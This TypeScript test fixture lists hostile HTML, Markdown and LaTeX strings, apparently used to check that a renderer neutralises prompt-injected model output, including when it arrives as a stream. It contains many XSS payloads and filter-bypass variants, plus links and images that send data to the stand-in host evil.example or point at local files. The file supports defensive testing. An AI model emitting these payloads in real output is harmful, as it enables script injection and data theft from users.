/** What a hostile document would have the model write, by class. */
const scripts = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>',
  '<a href="javascript:alert(1)">x</a>',
  '<body onload=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<input autofocus onfocus=alert(1)>',
  '<form action="https://evil.example"><button>x</button></form>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<style>@import "https://evil.example/x.css";</style>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<!--><img src=x onerror=alert(1)>-->',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img/src=x/onerror=alert(1)>',
  '<IMG SRC=x OnErRoR=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '`<img src=x onerror=alert(1)>`',
  '```html\n<script>alert(1)</script>\n```',
  '```"><script>alert(1)</script>\nx\n```',
  '```js onload=alert(1)\nx\n```',
  '# <img src=x onerror=alert(1)>',
  '| <img src=x onerror=alert(1)> | b |\n|---|---|\n| <script>1</script> | x |',
  '- <svg onload=alert(1)>\n- [ ] <b onclick=alert(1)>x</b>',
  '> <iframe src=javascript:alert(1)>',
  '$\\href{javascript:alert(1)}{x}$',
  '$$\n\\htmlStyle{background:url(https://evil.example)}{x}\n$$',
  '$\\includegraphics{https://evil.example/x.png}$',
  '$$\n\\def\\a{\\a\\a}\\a\n$$',
  '$<img src=x onerror=alert(1)>$',
];

const addresses = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'java\tscript:alert(1)',
  '&#106;avascript:alert(1)',
  'vbscript:msgbox(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD4=',
  'file:///etc/passwd',
  'smb://evil.example/share',
  'calculator:',
  'ms-msdt:/id',
  'app://bundle/../../x',
  'blob:https://evil.example/1',
  'https://evil.example/?q=secret',
  'http://evil.example/x',
  '//evil.example/x',
  'mailto:a@evil.example?body=secret',
  'view-source:https://evil.example',
];

const shapes: readonly ((address: string) => string)[] = [
  (address) => `[click](${address})`,
  (address) => `[click](<${address}> "title")`,
  (address) => `![alt](${address})`,
  (address) => `![" onerror="alert(1)](${address})`,
  (address) => `[![alt](${address})](${address})`,
  (address) => `<${address}>`,
  (address) => `[a][1]\n\n[1]: ${address}`,
  (address) => `![a][1]\n[1]: <${address}>`,
  (address) => `| ![a](${address}) |\n|---|\n| [x](${address}) |`,
  (address) => `Text[^1]\n\n[^1]: ![a](${address})`,
];

const markup = ['srcset', 'poster', 'background', 'data', 'formaction', 'xlink:href', 'ping', 'cite'].map(
  (name) => `<img ${name}="https://evil.example/x"><a ${name}="https://evil.example/x">x</a>`,
);

/** Shown cut at every place, as a stream would. */
export const hostileStreams: readonly string[] = [...scripts, ...markup, ...shapes.map((shape) => shape('javascript:alert(1)'))];

/** Shown whole: every address in every shape. */
export const hostileMarkdown: readonly string[] = [
  ...hostileStreams,
  ...addresses.flatMap((address) => shapes.map((shape) => shape(address))),
];
